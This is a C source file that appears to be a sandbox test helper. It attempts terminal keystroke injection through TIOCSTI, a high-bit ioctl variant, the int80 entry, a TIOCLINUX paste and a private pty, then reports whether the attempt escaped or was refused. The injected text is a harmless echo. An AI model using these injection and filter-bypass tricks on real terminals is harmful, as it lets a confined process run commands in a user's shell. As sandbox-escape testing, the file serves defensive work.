// SPDX-License-Identifier: Apache-2.0
/*
 * attack_terminal WAY: types into its controlling terminal, standard input, what a shell outside would do. WAY:
 *
 *   typed      ioctl(TIOCSTI)
 *   high-bits  the same, with bits above the unsigned int that the kernel takes the command from
 *   int80      by the 32-bit entry
 *   pasted     ioctl(TIOCLINUX), which pastes the selection of a virtual console
 *   own        into a terminal of its own
 *
 * attack_terminal shell WAY, or shell COMMAND...: runs that with a new terminal, as a shell does, and afterwards reads
 * what was typed: "escaped" when that is what attack_terminal types.
 */
#include "attack.h"

#include <poll.h>
#include <sys/ioctl.h>
#include <termios.h>

static const char typed[] = "echo typed\n";

static long type(int fd, uint64_t command) {
  for (const char* at = typed; *at; at++) {
    long result = raw(SYS_ioctl, fd, (long)command, (long)at, 0, 0);
    if (result != 0) return result;
  }
  return 0;
}

static long type_by_int80(void) {
  char* low =
      mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) broken("mmap");
  for (const char* at = typed; *at; at++) {
    long result;
    *low = *at;
    result = int80(54, 0, TIOCSTI, (long)low);
    if (result != 0) return result;
  }
  return 0;
}

static int new_terminal(int* master) {
  int number, unlock = 0;
  char path[32];
  *master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (*master < 0 || ioctl(*master, TIOCSPTLCK, &unlock) != 0 ||
      ioctl(*master, TIOCGPTN, &number) != 0)
    broken("/dev/ptmx");
  snprintf(path, sizeof path, "/dev/pts/%d", number);
  return open(path, O_RDWR | O_NOCTTY);
}

static int attack(const char* way) {
  long result;
  int master;
  if (strcmp(way, "typed") == 0)
    result = type(0, TIOCSTI);
  else if (strcmp(way, "high-bits") == 0)
    result = type(0, 0x100000000ul | TIOCSTI);
  else if (strcmp(way, "int80") == 0)
    result = type_by_int80();
  else if (strcmp(way, "pasted") == 0)
    result = raw(SYS_ioctl, 0, TIOCLINUX, (long)"\3", 0, 0); /* TIOCL_PASTESEL */
  else if (strcmp(way, "own") == 0)
    result = type(new_terminal(&master), TIOCSTI);
  else
    return exit_usage;
  if (result == 0 && strcmp(way, "own") == 0) escaped();
  if (result == 0) return 0; /* what comes of it, the shell sees */
  if (result == -EIO) impossible("dev.tty.legacy_tiocsti is 0");
  refused((int)-result);
}

static int shell(char** command) {
  char line[256] = "", said[256] = "";
  size_t length = 0;
  int master, status, output[2];
  int terminal = new_terminal(&master);
  if (terminal < 0 || pipe(output) != 0) broken("terminal");
  pid_t leader = fork();
  if (leader == 0) {
    setsid();
    if (ioctl(terminal, TIOCSCTTY, 0) != 0) broken("TIOCSCTTY");
    dup2(terminal, 0);
    dup2(output[1], 1);
    /* The shell: the terminal is its own, and it reads on when the command has ended. */
    pid_t child = fork();
    if (child == 0) {
      close(output[0]);
      close(output[1]);
      if (!command[1]) _exit(attack(command[0]));
      execvp(command[0], command);
      broken(command[0]);
    }
    waitpid(child, &status, 0);
    struct pollfd input = {.fd = 0, .events = POLLIN, .revents = 0};
    if (poll(&input, 1, 200) > 0 && read(0, line, sizeof line - 1) > 0 && strcmp(line, typed) == 0)
      dprintf(output[1], "escaped\n");
    if (WIFSIGNALED(status))
      dprintf(output[1], "refused %s\n", WTERMSIG(status) == SIGSYS ? "SIGSYS" : "signal");
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : exit_refused);
  }
  close(output[1]);
  close(terminal);
  for (ssize_t got; length < sizeof said - 1 &&
                    (got = read(output[0], said + length, sizeof said - 1 - length)) > 0;)
    length += (size_t)got;
  waitpid(leader, &status, 0);
  fputs(said, stdout);
  fflush(stdout);
  return WIFEXITED(status) ? WEXITSTATUS(status) : exit_usage;
}

int main(int argc, char** argv) {
  if (argc > 2 && strcmp(argv[1], "shell") == 0) return shell(argv + 2);
  return argc == 2 ? attack(argv[1]) : exit_usage;
}
